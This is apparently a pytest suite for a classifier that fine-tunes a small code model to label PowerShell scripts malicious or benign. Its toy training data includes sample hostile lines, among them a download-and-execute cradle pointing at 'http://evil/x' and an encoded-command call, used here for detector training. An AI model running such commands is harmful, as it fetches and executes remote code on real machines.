"""VerdictTrainer on the tiny StarCoder2 through TRL's real SFTTrainer machinery: dataset preparation and collator,
a short training run with early stopping and metrics, and resuming from a checkpoint."""
import math
import random

import numpy as np
import pytest
import torch
from datasets import Dataset
from transformers import EarlyStoppingCallback, TrainerCallback
from trl import SFTConfig

from pipeline.model import head, prompt
from pipeline.model.trainer import VerdictTrainer, compute_verdict_metrics
from tests.model_configs import load_tiny

torch.set_num_threads(1)
MAX_LEN = 96


def toy_rows(n: int, seed: int) -> list[tuple[str, str, str]]:
    """(text, lang, label) scripts whose class shows in their commands, alternating classes."""
    rng = random.Random(seed)
    bad = ["iex (New-Object Net.WebClient).DownloadString('http://evil/x')", "powershell -enc SQBFAFgA",
           "Invoke-Expression $payload"]
    good = ["Get-ChildItem C:\\ | Sort-Object Length", "Write-Host 'hello world'", "$x = 1 + 2; Write-Output $x"]
    rows = []
    for i in range(n):
        label = "malicious" if i % 2 == 0 else "benign"
        lines = [rng.choice(bad if label == "malicious" else good) for _ in range(rng.randint(1, 3))]
        rows.append((f"# job {rng.randint(0, 999)}\n" + "\n".join(lines) + f"\n# end {rng.randint(0, 99)}",
                     "powershell", label))
    return rows


HUGE = ("".join(f"Write-Host {i}\n" for i in range(5000)), "powershell", "benign")  # > 50 KB
TRAIN, VAL = toy_rows(60, seed=0) + [HUGE], toy_rows(20, seed=1)


def dataset(rows, tokenizer) -> Dataset:
    return Dataset.from_list([prompt.build_training_row(t, lang, y, tokenizer, MAX_LEN) for t, lang, y in rows])


def config(out, **overrides) -> SFTConfig:
    kw = dict(output_dir=str(out), max_length=MAX_LEN, packing=False, completion_only_loss=True, use_cpu=True,
              bf16=False, gradient_checkpointing=False, report_to="none", per_device_train_batch_size=8,
              per_device_eval_batch_size=8, learning_rate=3e-3, eval_strategy="no", save_strategy="no",
              logging_steps=5, seed=0, label_smoothing_factor=0.0, disable_tqdm=True)
    return SFTConfig(**{**kw, **overrides})


def trainer_for(finetuning_type, out, label_smoothing=0.1, callbacks=None, **overrides):
    model, tokenizer, _ = load_tiny([r[0] for r in TRAIN], MAX_LEN, finetuning_type)
    return VerdictTrainer(model, config(out, **overrides), label_smoothing=label_smoothing,
                          train_dataset=dataset(TRAIN, tokenizer), eval_dataset=dataset(VAL, tokenizer),
                          processing_class=tokenizer, compute_metrics=compute_verdict_metrics, callbacks=callbacks)


def test_trl_keeps_our_ids_and_labels_only_the_verdict(tmp_path):
    trainer = trainer_for("full", tmp_path, max_steps=1)
    tokenizer = trainer.processing_class
    prompts = [prompt.encode(t, lang, tokenizer, MAX_LEN) for t, lang, _ in TRAIN]
    # rows in == rows out (the 50 KB script included), and the ids TRL trains on are the prediction prompts
    assert len(trainer.train_dataset) == len(TRAIN)
    assert [r["input_ids"][:-1] for r in trainer.train_dataset] == prompts
    assert [r["input_ids"][:-1] for r in trainer.eval_dataset] == \
           [prompt.encode(t, lang, tokenizer, MAX_LEN) for t, lang, _ in VAL]
    batch = trainer.data_collator([trainer.train_dataset[i] for i in range(len(TRAIN) - 6, len(TRAIN))])
    benign, malicious = prompt.label_token_ids(tokenizer)
    for b, i in enumerate(range(len(TRAIN) - 6, len(TRAIN))):
        labelled = (batch["labels"][b] != -100).nonzero().flatten().tolist()
        assert labelled == [len(prompts[i])]  # exactly the verdict token
        assert batch["labels"][b, len(prompts[i])] == (malicious if TRAIN[i][2] == "malicious" else benign)
    positions, y = head.verdict_positions(batch["labels"], (benign, malicious))
    # the training loss reads the same position as scoring: the last prompt token
    assert positions.tolist() == [len(prompts[i]) - 1 for i in range(len(TRAIN) - 6, len(TRAIN))]
    assert y.tolist() == [int(TRAIN[i][2] == "malicious") for i in range(len(TRAIN) - 6, len(TRAIN))]


def test_training_lowers_val_loss_with_early_stopping_and_metrics(tmp_path):
    trainer = trainer_for("full", tmp_path, callbacks=[EarlyStoppingCallback(early_stopping_patience=2)],
                          max_steps=40, eval_strategy="steps", eval_steps=10, save_strategy="steps", save_steps=10,
                          load_best_model_at_end=True, metric_for_best_model="loss", save_total_limit=2)
    before = trainer.evaluate()
    trainer.train()
    after = trainer.evaluate()
    assert after["eval_loss"] < before["eval_loss"] - 0.3
    assert after["eval_loss"] == pytest.approx(trainer.state.best_metric, abs=1e-6)  # the best model was reloaded
    assert {"eval_specificity", "eval_sensitivity", "eval_roc_auc"} <= after.keys()
    assert after["eval_roc_auc"] > 0.9
    # eval_loss is the unsmoothed two-way cross-entropy, although training smoothed with 0.1
    p = head.score(trainer.model, trainer.processing_class, [r[0] for r in VAL], [r[1] for r in VAL], MAX_LEN)
    y = np.array([r[2] == "malicious" for r in VAL])
    assert after["eval_loss"] == pytest.approx(-np.mean(np.log(np.where(y, p, 1 - p))), abs=1e-5)


def test_resume_continues_from_the_checkpoint(tmp_path):
    common = dict(lr_scheduler_type="constant", save_strategy="steps", save_steps=6, learning_rate=1e-2)
    straight = trainer_for("lora", tmp_path / "a", max_steps=12, **common)
    straight.train()
    first = trainer_for("lora", tmp_path / "b", max_steps=6, **common)
    first.train()
    steps_run = []
    counter = type("Count", (TrainerCallback,), {"on_step_end": lambda self, a, state, c, **k: steps_run.append(
        state.global_step)})()
    resumed = trainer_for("lora", tmp_path / "b", max_steps=12, callbacks=[counter], **common)
    resumed.train(resume_from_checkpoint=str(tmp_path / "b" / "checkpoint-6"))
    assert steps_run == list(range(7, 13))  # continued at step 7, did not start over
    texts, langs = [r[0] for r in VAL], [r[1] for r in VAL]
    tok = straight.processing_class
    np.testing.assert_allclose(head.score(resumed.model, tok, texts, langs, MAX_LEN),
                               head.score(straight.model, tok, texts, langs, MAX_LEN), atol=1e-5)


@pytest.mark.parametrize("bad", [{"packing": True}, {"label_smoothing_factor": 0.1}, {"completion_only_loss": False}])
def test_settings_that_break_one_verdict_per_row_are_refused(tmp_path, bad):
    with pytest.raises(ValueError):
        trainer_for("full", tmp_path, max_steps=1, **bad)


def test_metrics_by_hand():
    logits = np.array([[2.0, 0.0], [0.0, 2.0], [0.0, 1.0], [1.0, 0.0], [3.0, 0.0]])  # P(mal) < .5, > .5, > .5, < .5
    y = np.array([0, 1, 0, 1, 0])

    class Pred:
        predictions, label_ids = logits, y

    m = compute_verdict_metrics(Pred)
    assert m["specificity"] == pytest.approx(2 / 3) and m["sensitivity"] == pytest.approx(1 / 2)
    assert m["balanced_accuracy"] == pytest.approx((2 / 3 + 1 / 2) / 2)
    assert 0 <= m["roc_auc"] <= 1
    one_class = type("P", (), {"predictions": logits[:1], "label_ids": y[:1]})
    assert math.isnan(compute_verdict_metrics(one_class)["roc_auc"])


def test_batched_training_rows_equal_the_one_at_a_time_rows():
    _, tokenizer, _ = load_tiny([r[0] for r in TRAIN], MAX_LEN)
    rows = TRAIN + VAL + [("x <|endoftext|> <pad>", "bash", "benign")]  # the huge script is cut; special tokens plain
    texts, langs, labels = zip(*rows)
    assert prompt.build_training_rows(texts, langs, labels, tokenizer, MAX_LEN) == \
        [prompt.build_training_row(t, lang, y, tokenizer, MAX_LEN) for t, lang, y in rows]


def test_final_metrics_reuse_the_best_checkpoints_evaluation(tmp_path, monkeypatch):
    trainer = trainer_for("full", tmp_path, callbacks=[EarlyStoppingCallback(early_stopping_patience=2)],
                          max_steps=24, eval_strategy="steps", eval_steps=6, save_strategy="steps", save_steps=6,
                          load_best_model_at_end=True, metric_for_best_model="loss", save_total_limit=2)
    trainer.train()
    calls = []
    real = VerdictTrainer.evaluate
    monkeypatch.setattr(VerdictTrainer, "evaluate", lambda self, *a, **k: calls.append(1) or real(self, *a, **k))
    final = trainer.final_metrics()
    assert calls == [] and final["step"] == trainer.state.best_global_step  # read from the log, not evaluated again
    fresh = real(trainer)  # the reloaded best model, evaluated now: the same figures
    for key in ("eval_loss", "eval_roc_auc", "eval_specificity", "eval_sensitivity"):
        assert final[key] == pytest.approx(fresh[key], abs=1e-6)
